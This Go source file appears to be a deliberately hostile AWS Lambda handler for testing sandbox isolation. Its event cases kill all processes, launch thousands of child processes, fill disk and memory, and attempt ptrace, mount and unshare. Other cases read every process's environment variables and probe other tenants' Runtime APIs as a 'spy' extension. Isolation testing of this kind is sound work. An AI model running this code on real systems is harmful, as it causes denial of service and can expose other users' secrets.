//go:build linux

// Command hostile is a function that tries to get out, or to take everything down.
package main

import (
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"time"

	"github.com/aws/aws-lambda-go/lambda"
	"golang.org/x/sys/unix"
)

type event struct{ Do, Text string }

func handle(e event) (string, error) {
	switch e.Do {
	case "read":
		if names, err := os.ReadDir(e.Text); err == nil {
			return fmt.Sprint("folder ", names), nil
		}
		text, err := os.ReadFile(e.Text)
		return outcome(string(text), err), nil
	case "write":
		return outcome("done", os.WriteFile(e.Text, []byte("x"), 0o600)), nil
	case "processes":
		return processes(), nil
	case "ptrace":
		return outcome("done", syscall.PtraceAttach(1)), nil
	case "mount":
		return outcome("done", syscall.Mount("tmpfs", "/tmp", "tmpfs", 0, "")), nil
	case "unshare":
		return outcome("done", syscall.Unshare(syscall.CLONE_NEWUSER)), nil
	case "capabilities":
		return capabilities(), nil
	case "kill":
		_ = syscall.Kill(-1, syscall.SIGKILL)
		_ = syscall.Kill(os.Getppid(), syscall.SIGKILL)
		_ = syscall.Kill(1, syscall.SIGTERM)
		return "killed", nil
	case "fork":
		return fork(), nil
	case "fill":
		return fill(e.Text), nil
	case "memory":
		runtime.KeepAlive(take(syscall.MAP_PRIVATE))
	case "sharedmemory":
		runtime.KeepAlive(take(syscall.MAP_SHARED))
	case "childmemory":
		child := exec.Command("/proc/self/exe", "take")
		child.Stdout, child.Stderr = os.Stdout, os.Stderr
		return outcome("done", child.Run()), nil
	case "background":
		return background()
	case "hang":
		select {}
	case "api":
		return os.Getenv("AWS_LAMBDA_RUNTIME_API"), nil
	case "ping":
		answer, err := http.Get("http://" + e.Text + "/2018-06-01/ping")
		if err == nil {
			err = answer.Body.Close()
		}
		return outcome("done", err), nil
	case "intrude":
		return intrude(e.Text), nil
	case "sockets":
		return sockets(), nil
	case "calls":
		return calls(), nil
	case "files":
		return files(), nil
	case "dial":
		network := "tcp"
		if strings.HasPrefix(e.Text, "@") {
			network = "unix"
		}
		conn, err := net.DialTimeout(network, e.Text, 5*time.Second)
		if err == nil {
			err = conn.Close()
		}
		return outcome("done", err), nil
	}
	return "", errors.New("no such attack")
}

func outcome(good string, err error) string {
	if err != nil {
		return err.Error()
	}
	return good
}

// processes tells all that can be read of all that can be seen.
func processes() string {
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	var seen strings.Builder
	for _, dir := range dirs {
		command, _ := os.ReadFile(filepath.Join(dir, "cmdline"))
		environment, _ := os.ReadFile(filepath.Join(dir, "environ"))
		fmt.Fprintf(&seen, "%s %q %q\n", dir, command, environment)
	}
	return seen.String()
}

func capabilities() string {
	text, _ := os.ReadFile("/proc/self/status")
	var found []string
	for line := range strings.SplitSeq(string(text), "\n") {
		for _, name := range []string{"CapEff:", "CapBnd:", "NoNewPrivs:", "Seccomp:"} {
			if strings.HasPrefix(line, name) {
				found = append(found, line)
			}
		}
	}
	return strings.Join(found, " ")
}

func fork() string {
	for n := range 5000 {
		child := exec.Command("/bin/sleep", "1000")
		if err := child.Start(); err != nil {
			return fmt.Sprintf("%v after %d", err, n)
		}
	}
	return "5000 children"
}

func fill(path string) string {
	f, err := os.Create(path)
	if err != nil {
		return err.Error()
	}
	defer os.Remove(path)
	defer f.Close()
	chunk := make([]byte, 1<<20)
	for n := range 2000 {
		if _, err := f.Write(chunk); err != nil {
			return fmt.Sprintf("%v after %d MB", errors.Unwrap(err), n)
		}
	}
	return "2000 MB"
}

// take takes memory until it is stopped, or 4 GB.
func take(kind int) (all [][]byte) {
	for range 512 {
		chunk, err := syscall.Mmap(-1, 0, 8<<20, syscall.PROT_READ|syscall.PROT_WRITE, kind|syscall.MAP_ANON)
		if err != nil {
			break
		}
		for i := 0; i < len(chunk); i += 4096 {
			chunk[i] = 1
		}
		all = append(all, chunk)
		time.Sleep(time.Millisecond)
	}
	return all
}

// background starts a process that forgets where it came from.
func background() (string, error) {
	child := exec.Command("/bin/sh", "-c", "(setsid sleep 1000 >/dev/null 2>&1 & echo $!)")
	out, err := child.Output()
	namespace, _ := os.Readlink("/proc/self/ns/pid")
	return strings.TrimSpace(string(out)) + "@" + namespace, err
}

// sockets tells which kinds of sockets it can make beside the usual ones.
func sockets() string {
	var made []string
	for family := range 50 {
		for _, protocol := range []int{0, syscall.NETLINK_INET_DIAG, syscall.NETLINK_KOBJECT_UEVENT} {
			for _, kind := range []int{syscall.SOCK_STREAM, syscall.SOCK_DGRAM, syscall.SOCK_RAW, syscall.SOCK_SEQPACKET} {
				if fd, err := syscall.Socket(family, kind, protocol); err == nil {
					_ = syscall.Close(fd)
					made = append(made, fmt.Sprint(family, "/", protocol))
				}
			}
		}
	}
	slices.Sort(made)
	return strings.Join(slices.Compact(made), " ")
}

// calls tells which system calls it may make that functions have no use for. Without arguments none does anything.
func calls() string {
	var allowed []string
	for name, number := range map[string]uintptr{
		"bpf": unix.SYS_BPF, "perf_event_open": unix.SYS_PERF_EVENT_OPEN, "userfaultfd": unix.SYS_USERFAULTFD, "io_uring_setup": unix.SYS_IO_URING_SETUP,
		"keyctl": unix.SYS_KEYCTL, "add_key": unix.SYS_ADD_KEY, "pidfd_getfd": unix.SYS_PIDFD_GETFD, "process_vm_readv": unix.SYS_PROCESS_VM_READV,
		"open_by_handle_at": unix.SYS_OPEN_BY_HANDLE_AT, "fanotify_init": unix.SYS_FANOTIFY_INIT, "clone3": unix.SYS_CLONE3, "fsopen": unix.SYS_FSOPEN,
		"setns": unix.SYS_SETNS, "init_module": unix.SYS_INIT_MODULE, "syslog": unix.SYS_SYSLOG, "quotactl_fd": unix.SYS_QUOTACTL_FD,
	} {
		switch _, _, errno := syscall.Syscall6(number, ^uintptr(0), 0, 0, 0, 0, 0); errno {
		case unix.EPERM, unix.ENOSYS:
		default:
			allowed = append(allowed, fmt.Sprint(name, ": ", errno))
		}
	}
	slices.Sort(allowed)
	return strings.Join(allowed, ", ")
}

// files tells what it has open that it did not open.
func files() string {
	links, _ := filepath.Glob("/proc/self/fd/*")
	var open []string
	for _, link := range links {
		to, err := os.Readlink(link)
		kind, _, _ := strings.Cut(to, ":")
		if err == nil && kind != "anon_inode" && !slices.Contains(open, kind) {
			open = append(open, kind)
		}
	}
	slices.Sort(open)
	return strings.Join(open, " ")
}

// intrude looks for a Runtime API that is not its own among all that listens on the host, and tries what it offers.
func intrude(address string) string {
	var found bool
	for _, at := range listeners() {
		found = found || at == address
	}
	if !found {
		return "not found"
	}
	client := http.Client{Timeout: time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
	var said []string
	for _, call := range []string{
		"GET /2018-06-01/ping", "GET /2018-06-01/runtime/invocation/next", "POST /2018-06-01/runtime/invocation/req-1/response",
		"POST /2018-06-01/runtime/invocation/req-1/error", "POST /2018-06-01/runtime/init/error", "POST /2020-01-01/extension/register",
		"GET /2020-01-01/extension/event/next", "PUT /2022-07-01/telemetry",
	} {
		method, path, _ := strings.Cut(call, " ")
		request, _ := http.NewRequest(method, "http://"+address+path, strings.NewReader(`{"events":["INVOKE"]}`))
		request.Header.Set("Lambda-Extension-Name", "spy")
		switch answer, err := client.Do(request); {
		case err == nil:
			_ = answer.Body.Close()
			said = append(said, fmt.Sprint(call, " ", answer.StatusCode))
		case errors.Is(err, os.ErrDeadlineExceeded):
			said = append(said, call+" waits")
		}
	}
	return strings.Join(said, ", ")
}

// listeners are the addresses of IPv4 that anybody on the host listens to.
func listeners() (all []string) {
	text, _ := os.ReadFile("/proc/net/tcp")
	for line := range strings.Lines(string(text)) {
		fields := strings.Fields(line)
		if len(fields) < 4 || fields[3] != "0A" {
			continue
		}
		var a, b, c, d byte
		var port int
		if _, err := fmt.Sscanf(fields[1], "%02X%02X%02X%02X:%04X", &d, &c, &b, &a, &port); err == nil {
			all = append(all, fmt.Sprintf("%d.%d.%d.%d:%d", a, b, c, d, port))
		}
	}
	return all
}

func main() {
	if len(os.Args) > 1 {
		take(syscall.MAP_PRIVATE)
		return
	}
	lambda.Start(handle)
}
